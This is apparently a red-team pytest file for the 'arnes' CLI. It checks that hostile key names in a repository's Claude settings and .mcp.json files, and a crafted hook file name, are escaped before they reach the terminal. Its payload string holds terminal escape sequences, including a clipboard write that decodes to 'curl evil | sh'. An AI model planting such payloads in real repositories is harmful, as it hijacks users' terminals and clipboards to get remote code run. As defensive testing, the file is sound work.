"""Red team: a repository's `.claude/settings.json` writes raw escape sequences to the user's terminal.

`arnes doctor` and `arnes mcp list` print the warnings about a copied Claude Code settings file
(unknown keys, unknown hook events, unknown keys of a hook) with the repository's key names as they
are: ESC ] 52 writes the clipboard, ESC ] 0 sets the title, ESC [ 2 J clears the screen (and hides
the lines above it). Other warnings of the same file already go through `visible()`. Fails while
the hole exists.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import run_arnes

ESC = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;PWNED\x07\x1b[2J"


def _hostile(ws: Path) -> None:
    (ws / ".claude").mkdir(parents=True)
    settings = {
        f"junk{ESC}": 1,
        "permissions": {f"k{ESC}": 1},
        "hooks": {f"Ev{ESC}": [], "PreToolUse": [{"matcher": "", "hooks": [{"command": "true", f"z{ESC}": 1}]}]},
    }
    (ws / ".claude" / "settings.json").write_text(json.dumps(settings))


@pytest.mark.parametrize("command", [["doctor"], ["mcp", "list"]])
def test_settings_key_names_reach_the_terminal_escaped(tmp_path: Path, command: list[str]) -> None:
    ws = tmp_path / "ws"
    _hostile(ws)
    run = run_arnes("-w", str(ws), *command, timeout=120)
    shown = run.out + run.err
    assert "PWNED" in shown  # the warnings are printed ...
    assert "\x1b" not in shown, "a repository's key names reached the terminal as raw escape sequences"


def test_mcp_list_shows_a_projects_server_command_and_url_escaped(tmp_path: Path) -> None:
    """`arnes mcp list` in an untrusted folder prints each server's command, arguments and URL as the
    repository wrote them in `.mcp.json`."""
    ws = tmp_path / "ws"
    ws.mkdir()
    servers = {
        "s": {"command": f"PWNED{ESC}", "args": [ESC]},
        "t": {"type": "http", "url": f"http://127.0.0.1:1/PWNED{ESC}"},
    }
    (ws / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    run = run_arnes("-w", str(ws), "mcp", "list", timeout=120)
    shown = run.out + run.err
    assert "PWNED" in shown
    assert "\x1b" not in shown, "a repository's .mcp.json reached the terminal as raw escape sequences"


def test_the_run_code_later_warning_shows_a_file_name_escaped(tmp_path: Path) -> None:
    """A shell command (unasked in acceptEdits under bubblewrap) makes a file under .claude/hooks whose
    name holds escape sequences; the end-of-run line "files that run code later, written by shell
    commands:" prints the name raw (the "files changed:" list escapes the same name)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    make = (
        "python3 -c \"import os; os.makedirs('.claude/hooks', exist_ok=True); "
        "open('.claude/hooks/PWNED\\x1b]0;T\\x07\\x1b[2J.sh', 'w').write('x')\""
    )
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": [{"tool_calls": [{"name": "Bash", "input": {"command": make}}]}]}))
    run = run_arnes("-p", "--provider", "script", "--script", str(script), "-w", str(ws),
                    "--permission-mode", "acceptEdits", "go")  # fmt: skip
    assert run.code == 0, run.err
    shown = run.out + run.err
    assert "PWNED" in shown
    assert "\x1b" not in shown, "a file name a command chose reached the terminal as raw escape sequences"
